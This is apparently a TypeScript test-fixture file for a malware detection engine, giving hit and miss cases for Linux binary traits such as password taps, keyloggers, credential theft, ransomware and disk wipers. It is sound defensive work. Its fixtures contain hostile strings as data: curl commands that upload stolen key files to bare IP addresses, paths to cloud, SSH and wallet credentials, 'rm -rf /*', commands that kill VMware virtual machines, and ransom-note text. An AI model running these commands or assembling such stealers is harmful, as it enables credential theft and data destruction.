// Programs that take passwords, keys and data, or destroy them.
import { writeTable } from '../../go/write-table.ts'
import { type Traits, texts } from './trait.ts'

/** The functions of a Go program that walks through folders and takes files away. */
const GO_TABLE = {
  name: '.gopclntab',
  data: writeTable(['runtime.main', 'path/filepath.Walk', 'os.Remove', 'main.main'], 'Go 1.20', 8),
}

export const THEFTS: Traits = {
  elf_taps_passwords: {
    hits: {
      'hears what a terminal reads and sends it': {
        type: 3,
        exports: ['read', 'write'],
        imports: ['dlsym', 'socket', 'sendto'],
        strings: ['assword:'],
      },
      'a module that keeps a list': {
        type: 3,
        exports: ['pam_sm_authenticate', 'pam_sm_setcred'],
        imports: ['pam_get_authtok', 'fopen', 'fprintf', 'strcmp'],
        strings: ['/var/tmp/.cache', '%s:%s'],
      },
    },
    misses: {
      'a wrapper of sockets': {
        type: 3,
        exports: ['read', 'write', 'socket', 'connect', 'sendto'],
        imports: ['dlsym', 'socket', 'sendto'],
        strings: ['password:'],
      },
      'a module that compares with what is stored': {
        type: 3,
        exports: ['pam_sm_authenticate'],
        imports: ['pam_get_authtok', 'crypt', 'fopen'],
        strings: ['%s:%s'],
      },
    },
  },
  elf_logs_keystrokes: {
    hits: {
      'reads keys and connects': {
        ...texts('/dev/input/event0', '[ENTER]', '[ESC]', '[TAB]'),
        imports: ['socket', 'connect', 'getaddrinfo'],
      },
    },
    misses: {
      'a daemon for keys': {
        ...texts('/dev/input/event0', 'KEY_ENTER', 'KEY_ESC', 'KEY_TAB'),
        imports: ['socket', 'connect', 'getaddrinfo'],
      },
    },
  },
  elf_steals_cloud_keys: {
    hits: {
      'four places and an upload': texts(
        '/root/.aws/credentials',
        '/root/.kube/config',
        '/root/.docker/config.json',
        '/root/.ssh/id_rsa',
        "curl -s -F 'f=@/tmp/.c' http://203.0.113.9/",
      ),
    },
    misses: {
      'a scanner for keys': texts('.aws/credentials', '.kube/config', '.docker/config.json', '.ssh/id_rsa'),
    },
  },
  elf_uploads_keys_to_bare_address: {
    hits: {
      'three places and a number': texts(
        '/.ssh/id_rsa',
        '/.aws/credentials',
        '/.electrum/wallets',
        'curl -s -F file=@/tmp/x http://91.92.248.33:8080/up',
      ),
    },
    misses: {
      'a backup to a server with a name': texts(
        '/.ssh/id_rsa',
        '/.aws/credentials',
        '/.electrum/wallets',
        'curl -s -F file=@/tmp/x https://backup.example.org/up',
      ),
      'a key and a number': texts('/.ssh/id_rsa', 'curl -s -F file=@/tmp/x http://91.92.248.33:8080/up'),
    },
  },
  elf_steals_account_data: {
    hits: {
      'three folders, hidden and sent': {
        ...texts('~/.config/google-chrome', '~/.mozilla/firefox', '~/.electrum/wallets', '/tmp/.cache-x'),
        imports: ['connect'],
      },
    },
    misses: {
      'a backup': { ...texts('.config/google-chrome', '.mozilla/firefox', '.thunderbird'), imports: ['connect'] },
    },
  },
  elf_reads_secrets_of_processes: {
    hits: {
      'enters the agent of keys': { ...texts('/proc/%s/cmdline', 'gnome-keyring-daemon'), imports: ['ptrace'] },
    },
    misses: {
      'a debugger': { ...texts('/proc/%d/maps'), imports: ['ptrace'] },
      'a list of processes': { ...texts('/proc/%s/cmdline', 'gnome-keyring-daemon'), imports: ['readdir'] },
    },
  },
  elf_ransomware: {
    hits: {
      'a note, and files replaced': {
        ...texts('All your files are encrypted', 'use tor browser', 'http://a.onion/'),
        imports: ['readdir64', 'rename'],
      },
      'a note, and files replaced in Go': {
        ...texts('All your files are encrypted', 'use tor browser', 'http://a.onion/'),
        sections: [GO_TABLE],
      },
      'hours that are left and where to answer, and machines stopped': texts(
        'answer within 72 hours',
        'abcdefgh.onion',
        'vim-cmd vmsvc/getallvms',
      ),
      'a note, and machines stopped': texts('files were encrypted', 'bitcoin', 'esxcli vm process kill', '.vmdk'),
    },
    misses: {
      'a manual in Go': { ...texts('manual'), sections: [GO_TABLE] },
      'a manual': texts('All your files are encrypted', 'bitcoin'),
      'both words, far apart': {
        ...texts('files were encrypted', '.'.repeat(9000), 'address.onion'),
        imports: ['readdir64', 'rename'],
      },
      'a manager of machines': { ...texts('vim-cmd vmsvc/getallvms'), imports: ['readdir', 'rename'] },
    },
  },
  elf_wipes_disks: {
    hits: {
      'every name of a disk, and everything deleted': texts(
        '/dev/sda',
        '/dev/vda',
        '/dev/nvme0n1',
        'rm -rf /* 2>/dev/null',
      ),
      'few functions, and a restart': {
        ...texts('/dev/sda', '/dev/mtd0', '/dev/mmcblk0'),
        imports: ['open', 'write', 'reboot'],
      },
    },
    misses: {
      'lists disks': texts('/dev/sda', '/dev/vda', '/dev/nvme0n1'),
      'a tool for any folder': texts('--no-preserve-root', 'rm -rf'),
    },
  },
}
